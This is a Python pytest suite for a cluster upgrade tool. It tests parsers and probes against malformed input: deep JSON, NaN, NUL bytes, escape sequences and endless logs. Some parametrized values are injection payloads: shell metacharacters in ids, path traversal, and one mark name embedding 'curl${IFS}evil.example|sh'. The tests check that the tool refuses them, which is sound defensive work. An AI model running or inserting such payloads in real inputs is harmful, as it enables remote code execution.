"""One answer that nobody foresaw makes that look unknown: never the process's end, never another node's."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from ctmupgrade.adapters.disk.backups import BackupStore
from ctmupgrade.adapters.disk.bounded_file import read_bounded
from ctmupgrade.adapters.disk.journal_file import MOST, JournalFile, read_journal, verify_chain
from ctmupgrade.adapters.disk.requests import read_requests
from ctmupgrade.adapters.transcripts import read_transcript
from ctmupgrade.codec import plan_document, plan_from_document
from ctmupgrade.collect.ask import ask, every_page
from ctmupgrade.collect.collect import collect_nodes
from ctmupgrade.collect.upgrade_logs import logs_of
from ctmupgrade.commands import node_marks
from ctmupgrade.core.clean_text import clean
from ctmupgrade.core.json_text import BadJsonError, read_first_object, read_json
from ctmupgrade.core.looks import file_probes, ksctl_probes, shell_probes, state_probes
from ctmupgrade.core.looks.facts import Unknown
from ctmupgrade.core.modes import StrategyName
from ctmupgrade.core.redact import scrubbed
from ctmupgrade.errors import ConnectionLostError, JournalError, TooMuchError, UsageError
from ctmupgrade.ports import Reader, Reply, Screenful, most_time
from ctmupgrade.sim import SimFleet
from tests.hostile import corpus
from tests.hostile.nodes import ChangedLooks, same
from tests.support.world_run import Drive, make_world

DEEP = '{"a":' * 2000 + "1" + "}" * 2000
DIGITS = "9" * 5000
KSCTL_ANSWERS = {
    "deep": DEEP,
    "deep, cut": '{"a":' * 200_000,
    "deep lists": '{"a":' + "[" * 3000 + "]" * 3000 + "}",
    "twice": '{"status": "error", "status": "started"}',
    "two": '{"status": "started"} {"status": "error"}',
    "NaN": '{"status": NaN}',
    "infinite": '{"total": 1e999, "resources": []}',
    "digits": f'{{"total": {DIGITS}, "resources": []}}',
    "uptime": json.dumps({"version": "2.20.0", "uptime": f"{'9' * 400} days, 1 hours, 1 minutes"}),
    "long version": json.dumps({"version": f"2.20.{DIGITS}"}),
    "far time": json.dumps({"version": "2.20.0", "system_time": "0001-01-01T00:00:00+14:00"}),
    "surrogate": '{"version": "2.20.0", "model": "\\ud800"}',
    "NUL in an id": json.dumps({"resources": [{"id": "a\0b", "nodeID": "x\0", "scope": "system"}]}),
    "list": "[1, 2]",
    "types": '{"resources": {"a": 1}, "services": 5, "status": [], "nodeID": {}}',
    "rows": json.dumps({"resources": [{}] * 20_000}),
    "empty": "",
}
SHELL_ANSWERS = {
    "digits": DIGITS, "Arabic digits": "٣" * 10, "superscript": "-rw-r--r-- 1 0 0 ² Jan 1 00:00 x", "lines": "\n" * 65_536,
    "df": f"Filesystem 1024-blocks Used Available Capacity Mounted\n/ {'9' * 400} 1 {'9' * 400} 1% /",
    "size": f"-rw-r--r-- 1 0 0 {DIGITS} Jan 1 00:00 x", "time": "2024-99-99 99:99", "btime": f"btime {DIGITS}",
    "log": f"Upgrade to 2.21.0+{DIGITS} succeeded", "surrogate": "\udcff\ud800", "NUL": "\0" * 1000,
    "colons": "a:\n" * 20_000, "equals": "ActiveState=" + "x" * 100_000, "epoch": "99999999999.999999999",
}  # fmt: skip


class Says(Reader):
    """A reader that answers everything with one text."""

    def __init__(self, text: str) -> None:
        self._text = text

    def read(self, *argv: str, timeout: float = 30.0) -> Reply:
        return Reply(0, self._text, "")

    def stream(self, *argv: str, timeout: float = 30.0) -> Iterator[bytes]:
        yield self._text.encode("utf-8", "replace")


class EndlessLog(Says):
    """A shell with one upgrade log, whose end by lines is more than an answer may be."""

    def __init__(self, by_bytes: str | None) -> None:
        super().__init__("")
        self._by_bytes = by_bytes

    def read(self, *argv: str, timeout: float = 30.0) -> Reply:
        if argv[0] == "ls":
            return Reply(0, ".:\nks_upgrade_2026-11-29-224602.log\n", "")
        if argv[:2] != ("tail", "-c") or self._by_bytes is None:
            raise TooMuchError(f"no end of the answer to {argv[0]}")
        return Reply(0, self._by_bytes, "")


def test_the_end_of_a_log_of_endless_lines_is_read() -> None:
    """Its verdict decides whether a reboot is due: a line of a megabyte before it hides nothing."""
    logs = logs_of(EndlessLog("a" * 60_000 + "\nUpgrade to 2.21.0+15451 succeeded\nReboot the instance\n"))
    assert not isinstance(logs, Unknown)
    assert [log.version for log in logs] == ["2.21.0+15451"]


def test_an_endless_log_is_not_taken_for_no_log() -> None:
    logs = logs_of(EndlessLog(None))
    assert isinstance(logs, tuple) and [log.undecided for log in logs] == [True]


CONTROL_PROBES: tuple[Any, ...] = (
    *ksctl_probes.OF_A_CONTROL_PLANE, *state_probes.OF_A_CONTROL_PLANE, state_probes.certificate("web"), ksctl_probes.backups(0),
    ksctl_probes.backup_keys(0),
)  # fmt: skip
SHELL_PROBES: tuple[Any, ...] = (
    *shell_probes.OF_A_SHELL, *state_probes.OF_A_SHELL, shell_probes.log_tail("x"), shell_probes.log_search(), shell_probes.port("x"), file_probes.staged("x"),
    file_probes.file_mark("x"), file_probes.file_hash("x"), shell_probes.BOOT_TIME, shell_probes.BOOTED_AT,
)  # fmt: skip


@pytest.mark.parametrize("answer", KSCTL_ANSWERS.values(), ids=KSCTL_ANSWERS)
def test_no_answer_of_ksctl_raises(answer: str) -> None:
    for probe in CONTROL_PROBES:
        found = ask(Says(answer), probe)
        assert corpus.harmful(str(found)) == []
    assert isinstance(every_page(Says(answer), ksctl_probes.backups), tuple | Unknown)


@pytest.mark.parametrize("answer", SHELL_ANSWERS.values(), ids=SHELL_ANSWERS)
def test_no_answer_of_a_shell_raises(answer: str) -> None:
    for probe in SHELL_PROBES:
        assert corpus.harmful(str(ask(Says(answer), probe))) == []


@pytest.mark.parametrize("name", ["twice", "two", "NaN", "deep", "deep lists", "digits", "rows"])
def test_what_has_two_readings_or_no_bounds_is_unknown(name: str) -> None:
    asked = (
        ksctl_probes.MEMBERS,
        ksctl_probes.backups(0),
        *(() if name == "rows" else (ksctl_probes.SERVICES,)),
    )
    for probe in asked:
        assert isinstance(ask(Says(KSCTL_ANSWERS[name]), probe), Unknown)


def test_raw_line_ends_in_a_text_are_an_answer() -> None:
    """The JSON of services/status can hold raw CR or LF (docs/appliance.md 4.2)."""
    answer = '{"status": "started", "services": [{"name": "a", "status": "started", "note": "x\r\ny\x01"}]}'
    found = ask(Says(answer), ksctl_probes.SERVICES)
    assert not isinstance(found, Unknown) and found.started


@pytest.mark.parametrize("node_id", ["a b", "x;id", "x\n", "`id`", "a" * 65, "é", "a_b", "../x"])
def test_an_id_that_can_be_none_is_refused(node_id: str) -> None:
    row = json.dumps({"resources": [{"nodeID": node_id, "host": "h", "status": {"code": "r"}}]})
    assert isinstance(ask(Says(row), ksctl_probes.MEMBERS), Unknown)
    info = json.dumps({"nodeID": node_id, "status": {"code": "r"}})
    assert isinstance(ask(Says(info), ksctl_probes.MEMBERSHIP), Unknown)


@pytest.mark.parametrize("backup_id", ["../x", "a/b", "a\nb", "a|b", "a\x00b c", "a" * 129, "..", "a b"])
def test_an_id_of_a_backup_that_can_be_none_is_refused(backup_id: str) -> None:
    rows = json.dumps({"resources": [{"id": backup_id, "scope": "system"}]})
    assert isinstance(ask(Says(rows), ksctl_probes.backups(0)), Unknown)
    assert isinstance(ask(Says(rows), ksctl_probes.backup_keys(0)), Unknown)


class Counting(Says):
    """A listing that never ends."""

    def __init__(self) -> None:
        super().__init__("")
        self.asked = 0

    def read(self, *argv: str, timeout: float = 30.0) -> Reply:
        self.asked += 1
        rows = [{"id": f"{self.asked}-{n}", "scope": "system"} for n in range(100)]
        return Reply(0, json.dumps({"total": 10**9, "resources": rows}), "")


def test_a_listing_without_an_end_is_unknown() -> None:
    reader = Counting()
    found = every_page(reader, ksctl_probes.backups)
    assert isinstance(found, Unknown) and "does not end" in found.why
    assert reader.asked <= 100


def _bomb(_asked: str, _answer: str) -> str:
    raise ZeroDivisionError("nobody foresaw this")


@pytest.mark.parametrize("bad", [_bomb, lambda _a, _b: DEEP], ids=["an exception", "depth"])
def test_one_node_ends_neither_the_process_nor_another_ones_looks(tmp_path: Path, bad: Any) -> None:
    drive = Drive(make_world(3), tmp_path)
    looks = ChangedLooks(drive.world, bad, bad, only="ctm-2")
    found = collect_nodes(looks, drive.cluster, drive.world.clock, drive.setup().tools.gather)
    assert isinstance(found["ctm-2"].system, Unknown) and isinstance(found["ctm-2"].members, Unknown)
    for name in ("ctm-1", "ctm-3"):
        assert not isinstance(found[name].system, Unknown) and found[name].shell is True
    healthy = ChangedLooks(drive.world, same, same)
    assert found["ctm-1"] == replace(
        collect_nodes(healthy, drive.cluster, drive.world.clock, drive.setup().tools.gather)["ctm-1"],
        ports=found["ctm-1"].ports,
    )


def test_a_look_that_raises_what_nobody_foresaw_is_unknown() -> None:
    class Bomb(Says):
        def read(self, *argv: str, timeout: float = 30.0) -> Reply:
            raise ZeroDivisionError("nobody foresaw this")

    assert isinstance(ask(Bomb(""), ksctl_probes.SYSTEM), Unknown)


def test_a_foreign_exception_is_that_nodes_alone(tmp_path: Path) -> None:
    """Even one from outside of any parser."""

    class Broken(ChangedLooks):
        def shell(self, node: str) -> Reader:
            if node == "ctm-2":
                raise BrokenPipeError(32, "Broken pipe")
            return super().shell(node)

    drive = Drive(make_world(3), tmp_path)
    found = collect_nodes(
        Broken(drive.world, same, same), drive.cluster, drive.world.clock, drive.setup().tools.gather
    )
    assert isinstance(found["ctm-2"].system, Unknown) and not isinstance(found["ctm-1"].system, Unknown)


@pytest.mark.parametrize("error", [TooMuchError, ConnectionLostError])
def test_a_node_whose_every_look_drips_holds_nobody_up_for_long(
    error: type[Exception], tmp_path: Path
) -> None:
    """It answers the first look: the others are not each waited for, and are unknown."""
    drive = Drive(make_world(3), tmp_path)
    clock, asked = drive.world.clock, []

    class Drips(Says):
        def read(self, *argv: str, timeout: float = 30.0) -> Reply:
            if argv == ("ls",):
                return Reply(0, "", "")
            asked.append(argv)
            clock.advance(most_time(timeout))
            raise error("no end of the answer")

    class Dripping(ChangedLooks):
        def shell(self, node: str) -> Reader:
            return Drips("") if node == "ctm-2" else super().shell(node)

    began = clock.monotonic()
    looks = Dripping(drive.world, same, same)
    found = collect_nodes(looks, drive.cluster, clock, drive.setup().tools.gather)["ctm-2"]
    assert found.shell is True and isinstance(found.processes, Unknown) and isinstance(found.logs, Unknown)
    assert len(asked) < 20 and clock.monotonic() - began < 400, (
        "a minute for the first, and some seconds for some others"
    )


def test_an_exception_in_a_steps_look_is_no_answer(tmp_path: Path) -> None:
    """A run goes on when the node makes sense again; one that never does ends by a failed step, not by a traceback."""
    world = make_world(1, nodes=[{"name": "ctm-1", "cluster": ""}])
    drive = Drive(world, tmp_path, StrategyName.STANDALONE)
    broken = [0]

    class Breaking(SimFleet):
        def control(self, node: str) -> Any:
            broken[0] += 1
            if 30 < broken[0] <= 40:
                raise ZeroDivisionError("nobody foresaw this")
            return super().control(node)

    plan = drive.plan()
    drive.fleet_of = Breaking
    assert drive.start(plan) == 0, drive.stuck
    assert broken[0] > 40


def test_an_answers_words_are_cleaned() -> None:
    reply = Reply(0, "a\x1b[2K\r\n\u202eb", "c\x00\ud800")
    assert (reply.out, reply.err) == ("a\nb", "c\ufffd")


def test_a_terminals_words_are_cleaned() -> None:
    assert Screenful("a\x1b[2K\r\n\u202eb", ended=False, code=None).text == "a\nb"


# -- files -------------------------------------------------------------------------------------------------------

FILES = {
    "deep": DEEP, "twice": '{"a": 1, "a": 2}', "list": "[]", "number": "5", "digits": DIGITS, "NaN": "NaN", "NUL": "\0",
    "two": "{} {}", "empty": "", "null": "null", "text": '"x"', "surrogate": '{"kind": "\\ud800"}',
    "types": '{"kind": 1, "at": [], "payload": 5, "steps": 7, "file": 3, "archive": 1, "node": {}}',
    "far": '{"kind": "pause", "at": "9999-12-31T23:59:59-14:00", "payload": {}, "archive": {}}',
}  # fmt: skip


@pytest.mark.parametrize("text", FILES.values(), ids=FILES)
def test_no_file_of_others_raises_anything_foreign(tmp_path: Path, text: str) -> None:
    (tmp_path / "requests").mkdir()
    (tmp_path / "requests" / "01-x.json").write_text(text, encoding="utf-8")
    read_requests(tmp_path, ["ctm-1"])
    (tmp_path / "c-ctm-1-x.manifest.json").write_text(text, encoding="utf-8")
    assert BackupStore(tmp_path, "c").manifests() == ()
    (tmp_path / "transcript.jsonl").write_text(f"{text}\n{text}\n", encoding="utf-8")
    with pytest.raises(UsageError):
        read_transcript(tmp_path)
    with pytest.raises(UsageError):
        plan_from_document(plan_document(text, "plan.json"), "plan.json")
    (tmp_path / "journal.jsonl").write_text(f"{text}\n{text}\n", encoding="utf-8")
    assert verify_chain(tmp_path / "journal.jsonl")
    with pytest.raises(JournalError):
        read_journal(tmp_path / "journal.jsonl")
    scrubbed({"settings": text})


def test_files_are_bounded_and_regular(tmp_path: Path) -> None:
    import os

    big, pipe = tmp_path / "big", tmp_path / "pipe"
    with big.open("wb") as file:
        file.truncate(2**21)
    os.mkfifo(pipe)
    for path in (big, pipe, tmp_path, Path("/dev/zero")):
        with pytest.raises(OSError):
            read_bounded(path)
    assert len(read_bounded(big, 2**21)) == 2**21


def test_a_number_that_was_changed_costs_nothing(tmp_path: Path) -> None:
    """SECURITY M6: what shows tampering must not die of it."""
    path = tmp_path / "journal.jsonl"
    file = JournalFile.create(path, durable=False)
    for number in range(5):
        file.append({"kind": "x", "n": number}, datetime(2026, 1, 10, tzinfo=UTC))
    file.close()
    good = path.read_text()
    tracemalloc.start()
    for seq in ("300000000", "9" * 29, "-3", "0"):
        path.write_text(good.replace('"seq":3,', f'"seq":{seq},'))
        assert any("line 3" in problem for problem in verify_chain(path)), seq
    assert tracemalloc.get_traced_memory()[1] < 2 * MOST, "reading it takes the longest journal's room"
    tracemalloc.stop()
    path.write_text(good)
    assert verify_chain(path) == []


def test_half_a_character_does_not_keep_an_event_out(tmp_path: Path) -> None:
    file = JournalFile.create(tmp_path / "journal.jsonl", durable=False)
    file.append({"kind": "x", "text": "\ud800"}, datetime(2026, 1, 10, tzinfo=UTC))
    file.close()
    assert verify_chain(tmp_path / "journal.jsonl") == []


# -- JSON and texts ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["{} x", '{"a":1} {"b":2}', '{"a":1,"a":1}', "[NaN]", "[-Infinity]", "[1e400]", "[" + "1" * 31 + "]"],
)
def test_json_with_two_readings_is_none(text: str) -> None:
    with pytest.raises(BadJsonError):
        read_json(text)


def test_json_is_read_to_a_depth_of_64() -> None:
    assert read_json("[" * 64 + "]" * 64)
    for text in ("[" * 66 + "]" * 66, "[" * 100_000):
        with pytest.raises(BadJsonError):
            read_json(text)
    assert read_first_object('a notice\n{"a": "\\u001b[2Kx"} bye') == {"a": "x"}


def test_only_a_newline_and_a_tab_are_left_of_what_acts() -> None:
    everything = "".join(map(chr, range(0x110000)))
    left = clean(everything)
    assert corpus.harmful(left) == [] and "\n" in left and "\t" in left and "é" in left and "日" in left
    assert clean("before \x1b]0;t\x1b\\ upgrade FAILED: disk full") == "before  upgrade FAILED: disk full"
    assert clean("a\r\nb\rc") == "a\nb\nc"


# -- marks -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["x;curl${IFS}evil.example|sh;#__ops@jump__2026", "$(id)__a__b", "-x__a__b", "a.b__c__d"]
)
def test_a_mark_that_names_no_run_is_no_command_to_paste(name: str) -> None:
    said = node_marks.held_by("ctm-1", node_marks.owner_of(name))
    assert "--take-over" not in said.remedy and "evil" not in said.remedy and "$(" not in said.remedy


def test_a_mark_of_ours_is_taken_over_by_its_name() -> None:
    owner = node_marks.owner_of("20260110T210000-0001234__ops@jump;id__2026-01-10T21:00:00")
    said = node_marks.held_by("ctm-1", owner)
    assert "--take-over 20260110T210000-0001234" in said.remedy and "'ops@jump;id'" in said.remedy
